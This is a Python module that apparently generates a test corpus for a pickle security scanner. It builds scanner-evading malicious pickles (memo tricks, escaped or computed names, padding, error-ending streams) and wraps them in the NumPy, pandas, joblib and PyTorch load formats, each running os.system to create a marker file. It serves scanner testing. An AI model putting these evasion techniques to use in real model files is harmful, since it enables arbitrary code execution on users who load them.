"""Files that execute something when they are loaded, rebuilt from public catalogues, for `evidence.py`.

Each creates a file `marker` in the current folder and does nothing else. The catalogues are:

- gadget: functions that run code, run commands or write files: see `gadgets.py`
- stream: instructions that hide what they call from a scanner, from the issues of picklescan and fickling
- exception: files that execute something and then end in an error (Hide-and-Seek: exception-oriented programming)
- path: the ways by which NumPy, joblib, pandas and PyTorch come to unpickle a file (Hide-and-Seek: loading paths)

`vectors()` yields a name, the catalogue, the loader, the ending of the file, and its bytes.
"""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib

import containers
import gadgets
from calls import CODE, COMMAND, SHELL, call, data, named, whole


def streams():
    """Yields a name and a pickle."""
    command = data(COMMAND)
    yield "memoize counts from the entries", (
        b"\x80\x04" + data("os")[:-2] + b"q\0" + data("system")[:-2] + b"q\1" + data("torch._utils")[:-2] + b"q\5"
        + data("_rebuild")[:-2] + b"q\6" + b"0000h\0h\1\x93" + command + b"\x85R."
    )
    yield "names from the memo", b"\x80\x04\x8c\x06system\x940\x8c\x02osh\0\x93" + command + b"\x85R."
    yield "a memo entry written twice", b"\x80\x04\x8c\x04safeq\x000\x8c\x02osq\x000h\0\x8c\x06system\x93" + command + b"\x85R."
    yield "OBJ without PROTO", b"(cos\nsystem\n" + command + b"o."
    yield "INST", b"(S'echo > marker'\nios\nsystem\n."
    yield "result dropped", b"\x80\x04cos\nsystem\n" + command + b"\x85R0N."
    yield "result in a list", b"\x80\x04](cos\nsystem\n" + command + b"\x85Re."
    yield "attributes of a module", whole(call("posixpath:os.system", COMMAND))
    yield "an extension code", whole(call("copyreg:add_extension", "os", "system", 7) + b"0\x82\x07" + command + b"\x85R")
    yield "a name in escapes", b"V\\u006f\\u0073\nV\\u0073ystem\n\x93" + command + b"\x85R."
    yield "a name of Python 2", b"\x80\x02ccommands\ngetoutput\n" + command + b"\x85R."
    yield "__builtin__ in protocol 2", b"\x80\x02c__builtin__\neval\n" + data(CODE) + b"\x85R."
    yield "a computed name", whole(call("builtins:str", "os") + data("system") + b"\x93" + command + b"\x85R")
    yield "a name joined from parts", whole(call("builtins:str.join", "", ["o", "s"]) + data("system") + b"\x93" + command + b"\x85R")
    yield "two memo protocols", b"\x80\x04cos\nsystem\nr\xff\x00\x00\x000j\xff\x00\x00\x00" + command + b"\x85R."
    yield "DUP", b"\x80\x04\x8c\x02os2\x930cos\nsystem\n2" + command + b"\x85R."
    yield "marks that are dropped", b"((00cos\nsystem\n(" + command + b"1cos\nsystem\n" + command + b"\x85R."
    yield "NEWOBJ_EX of a class", whole(named("subprocess:Popen") + data(SHELL) + b"\x85R")
    yield "state of a partial", whole(
        named("functools:partial") + named("builtins:print") + b"\x85R(" + named("os:system") + command + b"\x85}Ntb)R"
    )
    yield "a long text first", b"\x80\x04" + data("x" * 100_000) + b"0" + call("os:system", COMMAND) + b"."
    yield "100,000 values first", b"\x80\x04(" + b"K\1" * 100_000 + b"1" + call("os:system", COMMAND) + b"."
    yield "frame across instructions", b"\x80\x04\x95\x0b\0\0\0\0\0\0\0" + b"cos\nsystem\n" + command + b"\x85R."
    yield "PROTO in the middle", b"\x80\x02N0\x80\x04" + call("os:system", COMMAND) + b"."
    yield "protocol 0 without PROTO", b"cos\nsystem\n(S'echo > marker'\ntR."
    yield "a safe name first", whole(call("collections:OrderedDict") + b"0" + call("os:system", COMMAND))
    yield "a partial in a dict of default", whole(
        call("collections:defaultdict", call("functools:partial", named("os:system"), COMMAND)) + b"0"
        + call("collections:defaultdict.__missing__",
               call("collections:defaultdict", call("functools:partial", named("os:system"), COMMAND)), "a")
    )


def exceptions():
    """Yields a name and bytes: they execute something, and end in an error."""
    start = b"\x80\x04" + call("os:system", COMMAND)
    yield "no STOP", start
    yield "an opcode that does not exist", start + b"\xff."
    yield "a stack underflow", start + b"0000."
    yield "a memo entry that is missing", start + b"h\x63."
    yield "a text that is not UTF-8", start + b"\x8c\x02\xff\xfe."
    yield "an int that has no digits", start + b"Ix\n."
    yield "a protocol that does not exist", start + b"\x80\x63."
    yield "a frame past the end", start + b"\x95\xff\xff\0\0\0\0\0\0N."
    yield "a name that cannot be imported", start + b"cno_such_module\nf\n."
    yield "truncated inside an argument", start + b"X\xff\0\0\0abc"
    yield "text after STOP", start + b".#!/bin/sh\n"


def npy(content):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header + content


def npz(content, member="a.npy"):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(member, content)
    return file.getvalue()


def paths():
    """Yields a name, the loader, the ending, and bytes."""
    evil = whole(call("os:system", COMMAND))
    evil2 = whole(call("os:system", COMMAND), 2)
    yield "np.load of an array", "numpy", "npy", npy(evil)
    yield "np.load of a bare pickle", "numpy", "npy", evil
    yield "np.load of an archive", "numpy-archive", "npz", npz(npy(evil))
    yield "np.load of an archive, another name", "numpy-archive", "npz", npz(npy(evil), "a.txt")
    damaged = bytearray(npz(npy(evil)))
    place = damaged.index(b"PK\x01\x02") + 16
    damaged[place : place + 4] = bytes(4)
    yield "np.load of an archive, wrong checksum", "numpy-archive", "npz", bytes(damaged)
    yield "np.load, array after an array", "numpy-twice", "npy", npy(pickle.dumps([1])) + npy(evil)
    yield "pickle.load, second pickle", "pickle-twice", "pkl", pickle.dumps([1]) + evil
    yield "pickle.load of a .bin", "pickle", "bin", evil
    yield "pickle.load of a .txt", "pickle", "txt", evil
    yield "pickle.load of a .pt", "pickle", "pt", evil
    yield "pickle.load in Python", "python", "pkl", evil
    for ending, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress)):
        yield "pandas.read_pickle, " + ending, "pandas", "pkl." + ending, pack(evil)
    tarred = containers.tarred({"a.pkl": evil})
    yield "pandas.read_pickle, tar", "pandas", "pkl.tar", tarred
    yield "pandas.read_pickle, tar.gz", "pandas", "pkl.tar.gz", gzip.compress(tarred)
    yield "pandas.read_pickle, zip", "pandas", "pkl.zip", npz(evil, "a.pkl")
    yield "joblib.load", "joblib", "joblib", evil
    alone = lzma.compress(evil, lzma.FORMAT_ALONE)
    for form, packed in (("zlib", zlib.compress(evil)), ("gzip", gzip.compress(evil)), ("bz2", bz2.compress(evil)),
                         ("lzma", alone), ("xz", lzma.compress(evil))):
        yield "joblib.load, " + form, "joblib", "joblib", packed
    yield "joblib.load, array of objects", "joblib", "joblib", containers.joblib_objects(evil)
    yield "joblib.load, array of objects, zlib", "joblib", "joblib", zlib.compress(containers.joblib_objects(evil))
    yield "torch.load", "torch", "pt", containers.torch_zip(evil2)
    renamed = containers.zipped({"x/data.pkl": evil2, "x/version": b"3\n"})
    yield "torch.load, other names", "torch", "pth", renamed
    yield "torch.load, before 1.6", "torch", "pt", containers.torch_old(evil2)
    yield "torch.load, before 1.6, in the first pickle", "torch", "pt", evil2
    old = {"sys_info": pickle.dumps({}, 2), "pickle": evil2, "storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2)}
    yield "torch.load, before 0.2", "torch", "pt", containers.tarred(old)


def vectors():
    for label, instructions in gadgets.gadgets():
        yield label, "gadget", "pickle", "pkl", whole(instructions)
    for label, content in gadgets.of_python_2():
        yield label, "gadget", "pickle", "pkl", content
    for label, content in streams():
        yield label, "stream", "pickle", "pkl", content
    for label, content in exceptions():
        yield label, "exception", "pickle", "pkl", content
    for label, loader, ending, content in paths():
        yield label, "path", loader, ending, content
